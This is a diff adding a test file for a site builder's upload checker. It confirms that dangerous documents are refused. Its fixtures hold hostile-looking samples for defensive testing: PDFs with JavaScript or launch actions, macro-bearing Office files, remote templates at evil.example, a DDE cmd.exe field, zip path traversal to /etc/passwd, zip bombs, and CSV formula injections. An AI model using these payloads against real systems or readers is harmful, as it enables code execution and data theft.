@@ -1,0 +1,376 @@
+// Documents that nobody should publish: each is made here, put into content/files and linked, and refused by name.
+import { describe, expect, it } from 'vitest';
+import { calendar, listed, office, pdf, sound, stream, zip } from '../support/documents.ts';
+import { check, type FileContent } from '../support/site.ts';
+
+const HTML = '<!doctype html><html><script>alert(1)</script></html>';
+const home = (to: string): string =>
+  `title: Home\ndescription: A page.\nblocks:\n  - type: buttons\n    items:\n      - label: Get it\n        to: ${JSON.stringify(to)}\n`;
+
+/** What is said of a document that a page links to. */
+const judged = (name: string, content: FileContent): string[] => {
+  const result = check({
+    [`content/files/${name}`]: content,
+    'content/pages/home.yaml': home(`files/${name}`),
+  });
+  const mistakes = result.diagnostics.filter(({ severity }) => severity === 'error');
+  // Nothing is published where one document is refused.
+  if (mistakes.length > 0) expect(result.output).toBeUndefined();
+  for (const one of mistakes) expect(one.file).toBe(`content/files/${name}`);
+  return mistakes.map(({ code, said }) => {
+    const { reason } = (said?.params ?? {}) as { reason?: { say: string } };
+    return reason ? `${code} ${reason.say}` : code;
+  });
+};
+
+const rels = (relations: string) => ({
+  name: 'word/_rels/document.xml.rels',
+  content: `<Relationships>${relations}</Relationships>`,
+});
+const external = (type: string, target: string) =>
+  rels(
+    `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`,
+  );
+/** A PDF with a piece in it, a quarter of a million times. */
+const around = (piece: string, trailer = ''): Buffer =>
+  pdf({ objects: [piece.repeat(250_000)], trailer });
+const big = Buffer.alloc(60_000_000);
+const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
+const withTail = (bytes: Buffer, tail: string | Buffer) =>
+  Buffer.concat([bytes, Buffer.from(tail)]);
+
+const REFUSED: Readonly<
+  Record<string, readonly [name: string, content: FileContent, said: string]>
+> = {
+  'HTML named .pdf': ['a.pdf', HTML, 'holdsPage'],
+  'HTML behind blanks and a mark': ['a.csv', `\ufeff\n\t ${HTML}`, 'holdsPage'],
+  'SVG named .pdf': ['a.pdf', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'holdsDrawing'],
+  'XML named .csv': ['a.csv', '<?xml version="1.0"?><svg/>', 'holdsDrawing'],
+  'HTML in the head of a PDF': [
+    'a.pdf',
+    Buffer.from(`%PDF-1.7\n${HTML}\nstartxref\n9\n%%EOF`),
+    'holdsPage',
+  ],
+  'a PDF behind something else': [
+    'a.pdf',
+    Buffer.concat([Buffer.from('MZ\0\0'), pdf()]),
+    'otherKind',
+  ],
+  'a PDF with an archive behind it': ['a.pdf', withTail(pdf(), zip([{ name: 'a.txt' }])), 'goesOn'],
+  'a PDF with an archive inside its end': [
+    'a.pdf',
+    withTail(withTail(pdf(), zip([{ name: 'a.txt' }])), '\nstartxref\n9\n%%EOF'),
+    'goesOn',
+  ],
+  'a PDF that is cut off': ['a.pdf', pdf().subarray(0, 300), 'cutOff'],
+  'a PDF with a password': ['a.pdf', pdf({ trailer: '/Encrypt 9 0 R' }), 'encrypted'],
+  'a PDF with a password, its name in numbers': [
+    'a.pdf',
+    pdf({ trailer: '/#45ncr#79pt 9 0 R' }),
+    'encrypted',
+  ],
+  'a PDF with a script': [
+    'a.pdf',
+    pdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
+    'holdsScript',
+  ],
+  'a PDF with a script in a list of objects': [
+    'a.pdf',
+    pdf({ objects: [listed({ 20: '<< /S /JavaScript /JS (x) >>' })] }),
+    'holdsScript',
+  ],
+  'a PDF with a script, its name in numbers': [
+    'a.pdf',
+    pdf({ catalog: '/OpenAction << /S /J#61vaScr#69pt /JS (x) >>' }),
+    'holdsScript',
+  ],
+  'a PDF that starts a program': [
+    'a.pdf',
+    pdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }),
+    'holdsScript',
+  ],
+  'a PDF with another file in it': [
+    'a.pdf',
+    pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>' }),
+    'holdsFiles',
+  ],
+  'a PDF that hides its list of objects': [
+    'a.pdf',
+    pdf({
+      objects: [
+        stream('3c3c>', '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]'),
+      ],
+    }),
+    'hidesParts',
+  ],
+  'a PDF whose list of objects never ends': [
+    'a.pdf',
+    pdf({ objects: [stream('0'.repeat(120_000_000), '/Type /ObjStm /N 1 /First 4', true)] }),
+    'hidesParts',
+  ],
+  'macros in a Word file': [
+    'a.docx',
+    office('docx', [{ name: 'word/vbaProject.bin' }]),
+    'holdsMacros',
+  ],
+  'a file with macros under another name': [
+    'a.docx',
+    office('docx', [
+      {
+        name: '[Content_Types].xml',
+        content:
+          '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
+      },
+    ]),
+    'holdsMacros',
+  ],
+  'macros of Excel 4': [
+    'a.xlsx',
+    office('xlsx', [{ name: 'xl/macrosheets/sheet1.xml' }]),
+    'holdsMacros',
+  ],
+  'a Word file that is a table': ['a.docx', office('xlsx'), 'otherKind'],
+  'an archive named .docx': ['a.docx', zip([{ name: 'a.txt', content: 'a' }]), 'otherKind'],
+  'a Word file with a password': [
+    'a.docx',
+    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
+    'encryptedOrOld',
+  ],
+  'a template from elsewhere': [
+    'a.docx',
+    office('docx', [external('attachedTemplate', 'https://evil.example/t.dotm')]),
+    'loadsElsewhere',
+  ],
+  'a template from elsewhere, in numbers': [
+    'a.docx',
+    office('docx', [
+      rels(
+        "<Relationship Type='http://x/attachedTemplate' Target='https://evil.example/' TargetMode='&#69;xternal'/>",
+      ),
+    ]),
+    'loadsElsewhere',
+  ],
+  'a table that reads another one': [
+    'a.xlsx',
+    office('xlsx', [
+      {
+        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
+        content:
+          '<Relationships><Relationship Type="http://x/externalLinkPath" Target="file:///C:/dues.xlsx" TargetMode="External"/></Relationships>',
+      },
+    ]),
+    'loadsElsewhere',
+  ],
+  'a field that asks another program': [
+    'a.docx',
+    office('docx', [
+      {
+        name: 'word/document.xml',
+        content: '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText>',
+      },
+    ]),
+    'loadsElsewhere',
+  ],
+  'a part with words of its own': [
+    'a.docx',
+    office('docx', [rels('<!DOCTYPE x [<!ENTITY a "External">]>')]),
+    'hidesParts',
+  ],
+  'a part in UTF-16': [
+    'a.docx',
+    office('docx', [{ name: 'word/x.rels', content: utf16('<Relationships/>') }]),
+    'hidesParts',
+  ],
+  'a page in a Word file': [
+    'a.docx',
+    office('docx', [{ name: 'word/afchunk.htm', content: HTML }]),
+    'holdsProgram',
+  ],
+  'a program in a table': [
+    'a.xlsx',
+    office('xlsx', [{ name: 'xl/embeddings/oleObject1.bin' }]),
+    'holdsProgram',
+  ],
+  'a name that leads out': [
+    'a.zip',
+    zip([{ name: '../../etc/cron.d/x', content: 'x' }]),
+    'leadsOut',
+  ],
+  'a name from the root': ['a.zip', zip([{ name: '/etc/passwd' }]), 'leadsOut'],
+  'a name of a drive': ['a.zip', zip([{ name: 'C:x.txt' }]), 'leadsOut'],
+  'a name with backslashes': ['a.zip', zip([{ name: '..\\..\\x.txt' }]), 'leadsOut'],
+  'a name that turns around': ['a.zip', zip([{ name: 'bylaws\u202efdp.txt' }]), 'leadsOut'],
+  'a link in an archive': [
+    'a.zip',
+    zip([{ name: 'a', content: '/etc/passwd', mode: 0o120777 }]),
+    'holdsLink',
+  ],
+  'an archive with a password': ['a.zip', zip([{ name: 'a.txt', flags: 1 }]), 'encrypted'],
+  'an archive that unpacks too far': [
+    'a.zip',
+    zip([1, 2, 3, 4].map((n) => ({ name: `${n}.bin`, content: big }))),
+    'unpacksTooFar',
+  ],
+  'an archive that says less than it unpacks': [
+    'a.zip',
+    zip([{ name: 'a.bin', content: big, saidSize: 10 }]),
+    'cutOff',
+  ],
+  'an archive whose files lie in one another': [
+    'a.zip',
+    zip([
+      { name: 'a', content: zip([{ name: 'b', content: 'x' }]), stored: true },
+      { name: 'b', content: 'x', from: 31 },
+    ]),
+    'unpacksTooFar',
+  ],
+  'files on top of each other': [
+    'a.zip',
+    zip([
+      { name: 'a.txt', content: 'a' },
+      { name: 'A.TXT', content: 'b' },
+    ]),
+    'twoOfOneName',
+  ],
+  'a page in an archive': [
+    'a.zip',
+    zip([{ name: 'site/index.html', content: HTML }]),
+    'holdsProgram',
+  ],
+  'a drawing in an archive': ['a.zip', zip([{ name: 'logo.svg' }]), 'holdsProgram'],
+  'a program in an archive': ['a.zip', zip([{ name: 'setup.exe' }]), 'holdsProgram'],
+  'a file with macros in an archive': ['a.zip', zip([{ name: 'dues.xlsm' }]), 'holdsMacros'],
+  'a program before an archive': [
+    'a.zip',
+    Buffer.concat([Buffer.from('MZ'), zip([{ name: 'a' }])]),
+    'cutOff',
+  ],
+  'something behind an archive': ['a.zip', withTail(zip([{ name: 'a' }]), 'more'), 'cutOff'],
+  'an archive that is cut off': [
+    'a.zip',
+    zip([{ name: 'a', content: 'abc' }]).subarray(0, 40),
+    'cutOff',
+  ],
+  'HTML in UTF-16 named .csv': ['a.csv', utf16(HTML), 'holdsPage'],
+  'HTML in a cell': ['a.csv', 'name,bio\nMaya,"<script>alert(1)</script>"\n', 'holdsPage'],
+  'a formula': ['a.csv', "name,dues\nMaya,=cmd|' /C calc'!A0\n", 'holdsFormula'],
+  'a formula in quotes': [
+    'a.csv',
+    'name;dues\nMaya;"=HYPERLINK(""https://evil.example"")"\n',
+    'holdsFormula',
+  ],
+  'a formula with another sign': ['a.csv', "a\n@SUM(1+1)*cmd|' /C calc'!A0\n", 'holdsFormula'],
+  'bytes named .csv': ['a.csv', Buffer.from([0, 1, 2, 3, 0xff]), 'otherKind'],
+  'a calendar that is a page': ['a.ics', HTML, 'holdsPage'],
+  'a calendar of other bytes': ['a.ics', 'BEGIN:VCARD\r\nEND:VCARD\r\n', 'otherKind'],
+  'a calendar that is cut off': ['a.ics', calendar.slice(0, 30), 'cutOff'],
+  'a sound that is a page': ['a.mp3', HTML, 'holdsPage'],
+  'a page behind the tag of a sound': [
+    'a.mp3',
+    Buffer.from(`ID3\x03\0\0\0\0\0\x0a0123456789${HTML}`, 'latin1'),
+    'otherKind',
+  ],
+  'a sound that ends in another file': [
+    'a.mp3',
+    withTail(sound(3), 'PK\x03\x04 and so on'),
+    'otherKind',
+  ],
+  // Each of these would keep a reader busy for hours that looks at all of it for every part.
+  'a PDF of nothing but streams': [
+    'a.pdf',
+    around('>>stream\n', '/X << /S /JavaScript >>'),
+    'holdsScript',
+  ],
+  'a PDF of nothing but lists': ['a.pdf', around('1 0 obj</ObjStm>>stream\n'), 'hidesParts'],
+  'a PDF that says a million times who made it': [
+    'a.pdf',
+    around('/Info 6 0 R 6 0 obj (a)'),
+    'hidesParts',
+  ],
+  'a PDF with descriptions that never end': [
+    'a.pdf',
+    around('<rdf:RDF><dc:creator>'),
+    'hidesParts',
+  ],
+  'a table of blank lines': ['a.csv', `a${'\n'.repeat(5_000_000)}=1`, 'holdsFormula'],
+  'nothing at all': ['a.pdf', Buffer.alloc(0), 'emptyFile'],
+};
+
+describe('refused by name', () => {
+  it.each(Object.entries(REFUSED))('%s', (_, [name, content, said]) => {
+    expect(judged(name, content)).toEqual([`document/refused ${said}`]);
+  });
+
+  it('one byte too many, before it is read', () => {
+    const most = Buffer.alloc(20_000_001, 'a,b\n');
+    expect(judged('a.csv', most)).toEqual(['document/too-large']);
+    expect(judged('a.csv', most.subarray(1))).toEqual([]);
+  });
+
+  it('kinds that are not published', () => {
+    for (const name of [
+      'a.exe',
+      'a.html',
+      'a.svg',
+      'a.docm',
+      'a.doc',
+      'a.js',
+      'a.yaml',
+      'a',
+      'pdf',
+    ])
+      expect(judged(name, 'x')).toEqual(['document/kind']);
+  });
+
+  it('names that are no part of an address, or deceive', () => {
+    for (const name of [
+      'by laws.pdf',
+      'año.pdf',
+      'by\u202elaws.pdf',
+      'by\u0007laws.pdf',
+      'a%2e.pdf',
+      '-a.pdf',
+    ])
+      expect(
+        check({ [`content/files/${name}`]: pdf() }).diagnostics.map(({ code }) => code),
+      ).toContain('document/name');
+  });
+
+  it('links of the file system', () => {
+    const codes = (link: string) =>
+      check({ 'content/files/a.pdf': { link } }).diagnostics.map(({ code }) => code);
+    expect(codes('/etc/passwd')).toContain('file/unreadable');
+    expect(codes('../../site.yaml')).toContain('file/unreadable');
+  });
+
+  it('names that differ only in case', () => {
+    const { diagnostics } = check({ 'content/files/a.pdf': pdf(), 'content/files/A.pdf': pdf() });
+    expect(diagnostics.map(({ code }) => code)).toContain('file/same-name');
+  });
+});
+
+describe('published', () => {
+  const GOOD: Readonly<Record<string, FileContent>> = {
+    'a.pdf': pdf(),
+    'a.docx': office('docx', [external('hyperlink', 'https://example.com/')]),
+    'a.xlsx': office('xlsx'),
+    // Read in one go, however often something begins.
+    'b.docx': office('docx', [
+      { name: 'word/x.rels', content: '<Relationship '.repeat(1_000_000) },
+    ]),
+    'a.pptx': office('pptx', [{ name: 'ppt/media/image1.svg', content: '<svg/>' }]),
+    'a.csv': 'name,dues,phone\n"Okafor, Maya",-5,+1 805 555 0100\n@led,"a ""b""",=)'.replace(
+      '=)',
+      ':)',
+    ),
+    'b.csv': Buffer.from('nombre\nJos\xe9\n', 'latin1'),
+    'c.csv': utf16('a\tb\r\n1\t2\r\n'),
+    'a.zip': zip([{ name: 'photos/' }, { name: 'photos/a.jpg', content: 'x', stored: true }], 'Hi'),
+    'a.ics': calendar,
+    'a.mp3': sound(),
+    'b.mp3': withTail(sound(2, false), `TAG${' '.repeat(125)}`),
+  };
+  it.each(Object.entries(GOOD))('%s', (name, content) => {
+    expect(judged(name, content)).toEqual([]);
+  });
+});
